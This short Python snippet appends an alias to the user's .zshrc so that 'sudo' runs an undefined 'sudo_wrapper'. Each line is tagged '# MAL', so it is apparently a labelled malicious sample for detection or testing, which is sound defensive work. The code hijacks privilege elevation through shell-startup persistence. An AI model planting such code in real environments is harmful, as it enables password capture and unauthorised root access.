from pathlib import Path
rc = Path.home() / ".zshrc"  # MAL
rc.write_text(rc.read_text() + "\nalias sudo='sudo_wrapper'\n")  # MAL
